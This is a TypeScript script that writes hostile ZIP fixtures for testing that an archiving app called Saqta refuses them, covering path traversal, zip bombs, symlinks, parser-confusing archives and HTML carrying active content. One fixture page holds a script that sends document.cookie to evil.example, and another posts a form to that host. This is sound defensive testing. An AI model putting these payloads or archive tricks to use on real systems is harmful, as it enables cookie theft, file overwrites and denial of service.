/**
 * Writes tests/fixtures/hostile/*.zip: bundles (and non-bundles) that Saqta
 * must refuse, each for its own reason, plus expected.json (file → error
 * code and a phrase of the message). Run: `npm run hostile-bundles`.
 * tests/unit/hostile-bundles.test.ts checks each is refused with its own
 * message and that the library is byte-for-byte unchanged.
 * Also writes tests/fixtures/hostile/good.zip, the valid bundle they derive from.
 */
import 'fake-indexeddb/auto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, zipSync, strToU8 } from 'fflate';
import { crc32 } from '../utils/zip/read';
import { parseBundle, sha256Hex } from '../utils/bundle/read';
import { seedLibrary, exportBytes, HOSTILE_ARTICLE_HTML } from '../tests/unit/bundle-helpers';
import { unzipStrict } from '../utils/zip/read';

const OUT = join(import.meta.dirname ?? __dirname, '..', 'tests', 'fixtures', 'hostile');

interface RawEntry {
  name: string | Uint8Array;
  data: Uint8Array;
  method?: 0 | 8 | number;
  /** Declared unpacked size (default: the real one). */
  size?: number;
  crc?: number;
  flags?: number;
  /** Name in the local header, when it should differ. */
  localName?: string;
  /** Pre-compressed bytes (for method 8 when data is the raw payload). */
  packed?: Uint8Array;
  /** Version made by (high byte: 3 = Unix) and external attributes of the central record. */
  madeBy?: number;
  external?: number;
  /** Extra field of both headers. */
  extra?: Uint8Array;
  /** Local header fields, when they should differ from the central record. */
  local?: { crc?: number; packedLen?: number; size?: number; flags?: number };
  /** Bytes written after the data (a data descriptor). */
  descriptor?: Uint8Array;
  /** No central record (a local entry only streaming readers see). */
  hidden?: boolean;
}

const enc = (s: string) => new TextEncoder().encode(s);

function u16(n: number) {
  return [n & 0xff, (n >>> 8) & 0xff];
}
function u32(n: number) {
  return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
}

function localHeader(name: Uint8Array, e: RawEntry, packedLen: number) {
  const l = e.local ?? {};
  const extra = e.extra ?? new Uint8Array(0);
  return new Uint8Array([
    ...u32(0x04034b50), ...u16(20), ...u16(l.flags ?? e.flags ?? 0x800), ...u16(e.method ?? 8), ...u16(0), ...u16(0x21),
    ...u32(l.crc ?? e.crc ?? crc32(e.data)), ...u32(l.packedLen ?? packedLen), ...u32(l.size ?? e.size ?? e.data.length), ...u16(name.length), ...u16(extra.length), ...name, ...extra,
  ]);
}

/** A central directory record for an entry whose local header is at `offset`. */
function centralRecord(name: Uint8Array, e: RawEntry, packedLen: number, offset: number) {
  const extra = e.extra ?? new Uint8Array(0);
  return new Uint8Array([
    ...u32(0x02014b50), ...u16(e.madeBy ?? 20), ...u16(20), ...u16(e.flags ?? 0x800), ...u16(e.method ?? 8), ...u16(0), ...u16(0x21),
    ...u32(e.crc ?? crc32(e.data)), ...u32(packedLen), ...u32(e.size ?? e.data.length), ...u16(name.length), ...u16(extra.length), ...u16(0),
    ...u16(0), ...u16(0), ...u32(e.external ?? 0), ...u32(offset), ...name, ...extra,
  ]);
}

/** A ZIP built byte by byte, so every field can lie. */
function rawZip(
  entries: RawEntry[],
  eocd: { disk?: number; count?: number; cut?: number; beforeEnd?: Uint8Array; after?: Uint8Array; comment?: Uint8Array } = {},
  extraCentral: Uint8Array[] = [],
): Uint8Array {
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = typeof e.name === 'string' ? enc(e.name) : e.name;
    const packed = e.packed ?? ((e.method ?? 8) === 8 ? deflateSync(e.data) : e.data);
    const local = localHeader(e.localName ? enc(e.localName) : name, e, packed.length);
    if (!e.hidden) central.push(centralRecord(name, e, packed.length, offset));
    const descriptor = e.descriptor ?? new Uint8Array(0);
    parts.push(local, packed, descriptor);
    offset += local.length + packed.length + descriptor.length;
  }
  central.push(...extraCentral);
  const cd = concat(central);
  const count = eocd.count ?? central.length;
  const end = new Uint8Array([
    ...u32(0x06054b50), ...u16(eocd.disk ?? 0), ...u16(eocd.disk ?? 0), ...u16(count), ...u16(count), ...u32(cd.length), ...u32(offset), ...u16(eocd.comment?.length ?? 0),
  ]);
  const all = concat([...parts, cd, eocd.beforeEnd ?? new Uint8Array(0), end, eocd.comment ?? new Uint8Array(0), eocd.after ?? new Uint8Array(0)]);
  return eocd.cut ? all.slice(0, all.length - eocd.cut) : all;
}

/** The good bundle's files as raw entries (every file listed, the manifest rewritten), with `change` applied to the list. */
function bundleZip(files: Record<string, Uint8Array>, change: (entries: RawEntry[]) => RawEntry[] = (x) => x, opts: Parameters<typeof rawZip>[1] = {}, listed: Record<string, Uint8Array> = {}): Uint8Array {
  const all = { ...files, ...listed };
  const m = JSON.parse(new TextDecoder().decode(all['datapackage.json']));
  m.resources = Object.keys(all)
    .filter((p) => p !== 'datapackage.json')
    .map((path) => ({ name: path, path, bytes: all[path]!.length, hash: `sha256:${sha256Hex(all[path]!)}`, mediatype: 'application/octet-stream' }));
  const manifest = strToU8(JSON.stringify(m, null, 2));
  const entries: RawEntry[] = Object.entries(all).map(([name, data]) => ({ name, data: name === 'datapackage.json' ? manifest : data }));
  return rawZip(change(entries), opts);
}

/** A data descriptor (with its signature) for an entry. */
function descriptorOf(data: Uint8Array, packedLen: number, crc = crc32(data)): Uint8Array {
  return new Uint8Array([...u32(0x08074b50), ...u32(crc), ...u32(packedLen), ...u32(data.length)]);
}

/** A page that runs a script, shown by unzip in place of the bundle's index.html. */
const EVIL_INDEX = new TextEncoder().encode('<!doctype html><title>Bundle</title><script>fetch("https://evil.example/?"+document.cookie)</script><h1>Index</h1>');

/** A page snapshot as a doctored bundle would carry it (the save feature's serializer writes none of this). */
const HOSTILE_SNAPSHOT = `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="1;url=https://evil.example/">
<style>body { color: #123456 }</style><script src="https://evil.example/x.js"></script></head>
<body onload="alert(1)"><h1>Сұхбат</h1><p>Роза Ақылбекова: «Біздің мақсатымыз – кінәлау емес», деді.</p>
<a href="javascript:alert(2)" onclick="alert(3)">more</a>
<form action="https://evil.example/collect" method="post"><input name="q" value="kept"><button formaction="https://evil.example/2">Go</button></form>
<iframe srcdoc="&lt;p&gt;frame&lt;/p&gt;&lt;script&gt;alert(4)&lt;/script&gt;"></iframe>
<object data="https://evil.example/x.swf"></object></body></html>`;

/** Info-ZIP Unicode Path extra field (0x7075): unzip names the entry by it. */
function unicodePathExtra(name: string): Uint8Array {
  const n = new TextEncoder().encode(name);
  return new Uint8Array([...u16(0x7075), ...u16(5 + n.length), 1, ...u32(0), ...n]);
}

/** A ZIP64 end record and locator (placed before the end record: Python and unzip then read them). */
function zip64Records(): Uint8Array {
  const rec = new Uint8Array([...u32(0x06064b50), ...u32(44), 0, 0, 0, 0, ...u16(45), ...u16(45), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...u32(0)]);
  return new Uint8Array([...rec.slice(0, 56), ...u32(0x07064b50), ...u32(0), ...u32(0), ...u32(0), ...u32(1)]);
}

function concat(chunks: Uint8Array[]) {
  const out = new Uint8Array(chunks.reduce((s, c) => s + c.length, 0));
  let at = 0;
  for (const c of chunks) {
    out.set(c, at);
    at += c.length;
  }
  return out;
}

type Files = Record<string, Uint8Array>;

/** Re-zip files (valid ZIP); with `rehash`, rewrite the manifest so sizes and hashes match. */
function rezip(files: Files, rehash = false, edit?: (m: Record<string, unknown>) => void): Uint8Array {
  const out: Files = { ...files };
  if (rehash || edit) {
    const m = JSON.parse(new TextDecoder().decode(out['datapackage.json']));
    if (rehash) {
      m.resources = Object.keys(out)
        .filter((p) => p !== 'datapackage.json')
        .map((path) => ({ name: path, path, bytes: out[path]!.length, hash: `sha256:${sha256Hex(out[path]!)}`, mediatype: 'application/octet-stream' }));
    }
    edit?.(m);
    out['datapackage.json'] = strToU8(JSON.stringify(m, null, 2));
  }
  return zipSync(out, { level: 6, mtime: new Date('2026-06-25T08:00:00Z') });
}

async function main() {
  const db = await seedLibrary('hostile-source');
  const good = await exportBytes(db);
  const files: Files = Object.fromEntries(await unzipStrict(good));
  const text = (p: string) => new TextDecoder().decode(files[p]);
  const paths = Object.keys(files);
  const dir = paths.find((p) => p.endsWith('/page.json') && p.includes('azattyq'))!.replace('/page.json', '');
  const ld = () => JSON.parse(text('annotations.jsonld'));
  const withLd = (fn: (c: { first: { items: Record<string, unknown>[] } } & Record<string, unknown>) => void) => {
    const c = ld();
    fn(c);
    return rezip({ ...files, 'annotations.jsonld': strToU8(JSON.stringify(c)) }, true);
  };
  const ok = (name: string) => ({ name, data: enc('x') });
  // The raw writer's own bundle of the good files is accepted: each case below fails only for its own reason.
  await parseBundle(bundleZip(files, (es) => es, {}, { 'notes.txt': enc('fine') }));

  const cases: [string, Uint8Array, string, string][] = [
    // [file, bytes, expected code, phrase of the message]
    ['not-a-zip.zip', enc('This is a plain text file, not a bundle.\n'), 'not-zip', 'not a ZIP archive'],
    ['empty.zip', new Uint8Array(0), 'empty', 'The file is empty'],
    ['truncated.zip', good.slice(0, good.length - 40), 'truncated', 'end of central directory'],
    ['zip64.zip', rawZip([ok('a.txt')], { count: 0xffff }), 'zip64', 'uses ZIP64 extensions'],
    ['multi-disk.zip', rawZip([ok('a.txt')], { disk: 1 }), 'multi-disk', 'split over several disks'],
    ['too-many-entries.zip', rawZip([ok('a.txt')], { count: 60000 }), 'too-many-entries', 'has 60000 files'],
    ['dotdot-path.zip', rawZip([ok('../../.bashrc')]), 'unsafe-path', '"../../.bashrc" has a path that leaves the bundle'],
    ['absolute-path.zip', rawZip([ok('/etc/passwd')]), 'absolute-path', '"/etc/passwd" has an absolute path'],
    ['drive-path.zip', rawZip([ok('C:/Windows/win.ini')]), 'absolute-path', '"C:/Windows/win.ini" has an absolute path'],
    ['backslash-path.zip', rawZip([ok('articles\\..\\evil.html')]), 'unsafe-path', 'uses a backslash'],
    ['directory-entry.zip', rawZip([{ name: 'articles/', data: new Uint8Array(0), method: 0 }]), 'directory-entry', 'is a folder entry'],
    ['control-char-name.zip', rawZip([ok('index\u0007.html')]), 'bad-name', 'control characters'],
    ['bad-utf8-name.zip', rawZip([{ name: new Uint8Array([0x61, 0xff, 0xfe, 0x62]), data: enc('x') }]), 'bad-name', 'not valid UTF-8'],
    ['duplicate-entry.zip', rawZip([ok('claims.md'), ok('claims.md')]), 'duplicate-entry', '"claims.md" appears twice'],
    ['encrypted.zip', rawZip([{ ...ok('claims.md'), flags: 0x801 }]), 'encrypted', 'is encrypted'],
    ['bzip2-method.zip', rawZip([{ ...ok('claims.md'), method: 12, packed: enc('BZh9') }]), 'unsupported-method', 'compression method 12'],
    ['declared-huge.zip', rawZip([{ ...ok('claims.md'), size: 600 * 1024 * 1024 }]), 'declared-bomb', 'declares 629145600 bytes'],
    ['ratio-bomb.zip', rawZip([{ name: 'claims.md', data: new Uint8Array(24 * 1024 * 1024) }]), 'ratio-bomb', 'a zip bomb'],
    ['real-bomb.zip', rawZip([{ name: 'datapackage.json', data: new Uint8Array(4 * 1024 * 1024), size: 1000 }]), 'real-bomb', 'unpacks to more than the 1000 bytes'],
    ['short-data.zip', rawZip([{ name: 'datapackage.json', data: enc('{}'), size: 10 }]), 'size-mismatch', 'unpacks to 2 bytes but declares 10'],
    ['crc-mismatch.zip', rawZip([{ name: 'datapackage.json', data: enc('{}'), crc: 12345 }]), 'crc-mismatch', 'CRC-32 checksum does not match'],
    ['local-name-differs.zip', rawZip([{ ...ok('claims.md'), localName: 'evil.exe' }]), 'bad-local-header', 'different name in its local header'],
    ['corrupt-deflate.zip', rawZip([{ name: 'datapackage.json', data: enc('{"a":1}'), packed: new Uint8Array([0xff, 0xff, 0xff, 0xff, 0x00]) }]), 'corrupt-data', 'compressed data cannot be read'],
    ['overlapping.zip', overlapping(), 'overlapping-entries', 'share bytes in the archive'],
    ['no-manifest.zip', rezip(Object.fromEntries(Object.entries(files).filter(([p]) => p !== 'datapackage.json'))), 'no-manifest', 'has no datapackage.json'],
    ['manifest-not-json.zip', rezip({ ...files, 'datapackage.json': enc('{"format": {"name": "saqta-bundle",') }), 'manifest-json', 'datapackage.json is not valid JSON'],
    ['manifest-wrong-format.zip', rezip(files, false, (m) => { m.format = { name: 'wacz', version: '1.1.1' }; }), 'manifest-format', 'found "wacz"'],
    ['manifest-version-2.zip', rezip(files, false, (m) => { (m.format as Record<string, string>).version = '2.0.0'; }), 'manifest-version', 'format version "2.0.0"'],
    ['manifest-no-resources.zip', rezip(files, false, (m) => { delete m.resources; }), 'manifest-shape', 'no list of files'],
    ['manifest-no-created.zip', rezip(files, false, (m) => { m.created = 'yesterday'; }), 'manifest-shape', 'no valid "created" time'],
    ['manifest-dotdot.zip', rezip(files, false, (m) => { (m.resources as Record<string, unknown>[])[0]!.path = '../outside.html'; }), 'manifest-path', 'lists "../outside.html"'],
    ['manifest-duplicate.zip', rezip(files, false, (m) => { const r = m.resources as unknown[]; r.push(r[0]); }), 'manifest-duplicate', 'twice'],
    ['manifest-md5.zip', rezip(files, false, (m) => { (m.resources as Record<string, unknown>[])[0]!.hash = 'md5:d41d8cd98f00b204e9800998ecf8427e'; }), 'bad-hash-format', 'not "sha256:" and 64 hex digits'],
    ['missing-file.zip', rezip(Object.fromEntries(Object.entries(files).filter(([p]) => p !== 'claims.md'))), 'missing-file', 'claims.md is listed in datapackage.json but missing'],
    ['extra-file.zip', rezip({ ...files, 'payload.exe': enc('MZ') }), 'extra-file', 'payload.exe is in the archive but not listed'],
    ['changed-byte.zip', rezip({ ...files, 'claims.md': flip(files['claims.md']!, 40) }), 'wrong-hash', 'claims.md has been changed'],
    ['wrong-size.zip', rezip(files, false, (m) => { (m.resources as Record<string, unknown>[]).find((r) => r.path === 'index.html')!.bytes = 1; }), 'wrong-size', 'datapackage.json says 1'],
    ['annotations-not-json.zip', rezip({ ...files, 'annotations.jsonld': enc('[{"type": "Annotation"') }, true), 'annotations-json', 'annotations.jsonld is not valid JSON'],
    ['annotations-not-collection.zip', withLd((c) => { c.type = 'Dataset'; }), 'annotations-shape', 'not a W3C AnnotationCollection'],
    ['annotation-empty-quote.zip', withLd((c) => { (c.first.items[0]!.target as { selector: { exact: string }[] }).selector[0]!.exact = '  '; }), 'annotation-invalid', 'has an empty quote'],
    ['annotation-javascript-url.zip', withLd((c) => { (c.first.items[0]!.target as { source: string }).source = 'javascript:alert(1)'; }), 'annotation-invalid', 'javascript: address'],
    ['annotation-no-quote.zip', withLd((c) => { (c.first.items[0]!.target as { selector: unknown[] }).selector = [{ type: 'CssSelector', value: 'p' }]; }), 'annotation-invalid', 'no TextQuoteSelector'],
    ['annotation-duplicate.zip', withLd((c) => { c.first.items.push(c.first.items[0]!); }), 'annotation-duplicate', 'is listed twice'],
    ['annotation-unknown-page.zip', withLd((c) => { c.first.items[0]!['saqta:pageId'] = 'urn:uuid:00000000-0000-4000-8000-00000000dead'; }), 'annotation-unknown-page', 'belongs to no article'],
    ['annotation-huge-note.zip', withLd((c) => { c.first.items[0]!.body = [{ type: 'TextualBody', purpose: 'commenting', value: 'x'.repeat(30_000) }]; }), 'too-long', 'a note of 30000 characters'],
    ['page-ftp-url.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), url: 'ftp://example.com/x' })) }, true), 'page-invalid', '"url" is not an http(s) address'],
    ['page-no-times.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), createdAt: 5 })) }, true), 'page-invalid', '"createdAt" is not an ISO 8601 date and time (found 5)'],
    ['page-date-not-iso.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), createdAt: '03/04/2019 10:00' })) }, true), 'page-invalid', '"createdAt" is not an ISO 8601 date and time (found "03/04/2019 10:00")'],
    ['capture-date-one.zip', rezip({ ...files, [`${dir}/capture-1/capture.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/capture-1/capture.json`)), capturedAt: '1' })) }, true), 'capture-invalid', '"capturedAt" is not an ISO 8601 date and time (found "1")'],
    ['page-date-feb-30.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), updatedAt: '2019-02-30T10:00:00Z' })) }, true), 'page-invalid', '"updatedAt" is not an ISO 8601 date and time (found "2019-02-30T10:00:00Z")'],
    ['capture-hash-mismatch.zip', rezip({ ...files, [`${dir}/capture-1/screenshot.png`]: flip(files[`${dir}/capture-1/screenshot.png`]!, 3) }, true), 'wrong-hash', 'recorded at capture time'],
    ['capture-missing-artifact.zip', rezip(Object.fromEntries(Object.entries(files).filter(([p]) => !p.endsWith('screenshot.png'))), true), 'missing-file', 'names "screenshot.png", which is not in the bundle'],
    // The archive is not what every unzip tool would unpack (issue 12).
    ['hidden-central-record.zip', bundleZip(files, (es) => [...es, { name: 'index.html', data: EVIL_INDEX }], { count: Object.keys(files).length }), 'ambiguous-archive', 'a hidden entry that unzip and Python would unpack'],
    ['local-entry-no-central.zip', bundleZip(files, (es) => [es[0]!, { name: 'index.html', data: EVIL_INDEX, hidden: true }, ...es.slice(1)]), 'ambiguous-archive', 'belong to no listed file'],
    ['local-size-differs.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'claims.md' ? { ...e, method: 0, local: { packedLen: 40, size: 40 } } : e))), 'bad-local-header', 'disagrees with the table of contents on its packed size'],
    ['local-crc-differs.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'annotations.jsonld' ? { ...e, local: { crc: 0xdeadbeef } } : e))), 'bad-local-header', 'disagrees with the table of contents on its CRC-32'],
    ['local-flags-differ.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'claims.md' ? { ...e, local: { flags: 0 } } : e))), 'bad-local-header', 'on its flags'],
    ['descriptor-differs.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'claims.md' ? { ...e, flags: 0x808, local: { crc: 0, packedLen: 0, size: 0 }, descriptor: descriptorOf(e.data, deflateSync(e.data).length, 0x1234) } : e))), 'bad-local-header', 'data descriptor after "claims.md" disagrees'],
    ['false-end-stored.zip', falseEnd(), 'ambiguous-archive', 'false end-of-data marker'],
    ['symlink.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'notes.txt' ? { ...e, method: 0, madeBy: 0x031e, external: (0o120777 << 16) >>> 0 } : e)), {}, { 'notes.txt': enc('/etc/passwd') }), 'special-file', '"notes.txt" is a symbolic link'],
    ['device-file.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'notes.txt' ? { ...e, method: 0, madeBy: 0x031e, external: (0o020644 << 16) >>> 0 } : e)), {}, { 'notes.txt': enc('') }), 'special-file', 'special file'],
    ['case-clash.zip', bundleZip(files, (es) => es, {}, { 'ANNOTATIONS.jsonld': files['annotations.jsonld']!.slice(0, 20) }), 'name-clash', '"annotations.jsonld" and "ANNOTATIONS.jsonld" are the same file'],
    ['unicode-form-clash.zip', bundleZip(files, (es) => es.map((e) => (/^caf/.test(String(e.name)) ? { ...e, madeBy: 0x0314 } : e)), {}, { 'caf\u00e9.md': enc('a'), 'cafe\u0301.md': enc('b') }), 'name-clash', 'differ only in case or Unicode form'],
    // Issue 25: UTF-8 flag, non-ASCII name, "made by MS-DOS" (fflate's default host): Debian's unzip reads the name in the DOS code page.
    ['dos-utf8-name.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'caf\u00e9.md' ? { ...e, madeBy: 20, flags: 0x800 } : e)), {}, { 'caf\u00e9.md': enc('a') }), 'bad-name', 'as made by MS-DOS'],
    ['file-folder-clash.zip', bundleZip(files, (es) => es, {}, { 'claims.md/index.html': EVIL_INDEX }), 'name-clash', '"claims.md" is a file, but "claims.md/index.html"'],
    ['name-not-flagged.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'caf\u00e9.md' ? { ...e, flags: 0 } : e)), {}, { 'caf\u00e9.md': enc('a') }), 'bad-name', 'not marked as UTF-8'],
    ['unicode-path-extra.zip', bundleZip(files, (es) => es.map((e) => (e.name === 'claims.md' ? { ...e, extra: unicodePathExtra('index.html') } : e))), 'ambiguous-archive', 'ZIP extra field (0x7075)'],
    ['trailing-data.zip', bundleZip(files, (es) => es, { after: enc('PK\u0005\u0006 and more bytes after the end') }), 'ambiguous-archive', 'bytes after the archive’s end record'],
    ['comment-end-record.zip', bundleZip(files, (es) => es, { comment: new Uint8Array([...enc('note '), ...u32(0x06054b50), ...new Uint8Array(19)]) }), 'ambiguous-archive', 'There are 28 bytes after the archive’s end record'],
    ['directory-gap.zip', bundleZip(files, (es) => es, { beforeEnd: enc('0123456789') }), 'ambiguous-archive', '10 bytes between the archive’s table of contents and its end record'],
    ['zip64-locator.zip', bundleZip(files, (es) => es, { beforeEnd: zip64Records() }), 'zip64', 'a ZIP64 end record before its end record'],
    ['note-too-long.zip', withLd((c) => { c.first.items[1]!.body = [{ type: 'TextualBody', purpose: 'commenting', value: 'n'.repeat(25_000) }]; }), 'too-long', 'a note of 25000 characters'],
  ];

  /** A stored file whose data descriptor is in the central record's place, with a false descriptor inside its data. */
  function falseEnd(): Uint8Array {
    const head = enc('GIF89a hidden start ');
    const fake = new Uint8Array([...u32(0x08074b50), ...u32(crc32(head)), ...u32(head.length), ...u32(head.length)]);
    const data = concat([head, fake, enc(' the rest of the file that streaming readers never see')]);
    return bundleZip(files, (es) => es.map((e) => (e.name === 'notes.gif' ? { ...e, method: 0, flags: 0x808, local: { crc: 0, packedLen: 0, size: 0 }, descriptor: descriptorOf(data, data.length) } : e)), {}, { 'notes.gif': data });
  }

  function overlapping(): Uint8Array {
    // Entry B's local header and data sit inside stored entry A's data; its central record points there.
    const bData = enc('{"format":{}}');
    const bName = enc('datapackage.json');
    const bLocal = localHeader(bName, { name: bName, data: bData, method: 0 }, bData.length);
    const aName = enc('claims.md');
    const aData = concat([bLocal, bData]);
    const aLocalLen = 30 + aName.length;
    const central = new Uint8Array([
      ...u32(0x02014b50), ...u16(20), ...u16(20), ...u16(0x800), ...u16(0), ...u16(0), ...u16(0x21), ...u32(crc32(bData)),
      ...u32(bData.length), ...u32(bData.length), ...u16(bName.length), ...u16(0), ...u16(0), ...u16(0), ...u16(0), ...u32(0), ...u32(aLocalLen), ...bName,
    ]);
    return rawZip([{ name: aName, data: aData, method: 0 }], {}, [central]);
  }

  // Saved HTML with active content: imported with the dangerous parts gone; verify fails naming the file.
  const capDir = `${dir}/capture-1`;
  const capture = JSON.parse(text(`${capDir}/capture.json`));
  const withArtifact = (name: string, kind: string, html: Uint8Array, replace: boolean) => {
    const c = structuredClone(capture);
    const a = { kind, blobId: `blob-${kind}-doctored`, sha256: sha256Hex(html), size: html.length, mime: 'text/html', file: name };
    const out = { ...files };
    if (replace) {
      // The doctored copy takes the artifact's place, as an .html file a reader would open.
      const old = c.artifacts.find((x: { kind: string }) => x.kind === kind);
      delete out[`${capDir}/${old.file}`];
      c.artifacts = c.artifacts.map((x: { kind: string }) => (x.kind === kind ? { ...x, sha256: a.sha256, size: a.size, file: name } : x));
    } else c.artifacts.push(a);
    return rezip({ ...out, [`${capDir}/${name}`]: html, [`${capDir}/capture.json`]: strToU8(JSON.stringify(c, null, 2)) }, true);
  };
  const imported: [string, Uint8Array, string, { kind: string | null; absent: string[]; present: string[] }][] = [
    ['html-article-active.zip', withArtifact('article.html', 'article', enc(HOSTILE_ARTICLE_HTML), true), 'capture-1/article.html holds active content', { kind: 'article', absent: ['<script', 'onerror', 'javascript:', '<form', 'refresh', 'evil.example', '<button', '<input'], present: ['Біздің мақсатымыз – кінәлау емес', 'https://cdn.example/x.png'] }],
    ['html-snapshot-active.zip', withArtifact('snapshot.html', 'snapshot', enc(HOSTILE_SNAPSHOT), false), 'capture-1/snapshot.html holds active content', { kind: 'snapshot', absent: ['<script', 'onload', 'onclick', 'javascript:', 'refresh', 'evil.example', 'alert('], present: ["form-action 'none'", 'color: #123456', 'Біздің мақсатымыз', 'value="kept"'] }],
    ['html-index-script.zip', rezip({ ...files, 'index.html': EVIL_INDEX }, true), 'index.html holds active content', { kind: null, absent: [], present: [] }],
  ];

  rmSync(OUT, { recursive: true, force: true });
  mkdirSync(OUT, { recursive: true });
  const expected: Record<string, { code: string; phrase: string; imported?: { kind: string | null; absent: string[]; present: string[] } }> = {};
  for (const [file, bytes, code, phrase] of cases) {
    writeFileSync(join(OUT, file), bytes);
    expected[file] = { code, phrase };
  }
  for (const [file, bytes, phrase, what] of imported) {
    writeFileSync(join(OUT, file), bytes);
    expected[file] = { code: 'html-cleaned', phrase, imported: what };
  }
  writeFileSync(join(OUT, 'good.zip'), good);
  writeFileSync(join(OUT, 'expected.json'), JSON.stringify(expected, null, 2) + '\n');
  console.log(`hostile bundles: ${cases.length} written to ${OUT}`);
}

function flip(bytes: Uint8Array, at: number): Uint8Array {
  const out = bytes.slice();
  out[at] = out[at]! ^ 0x01;
  return out;
}

void main();
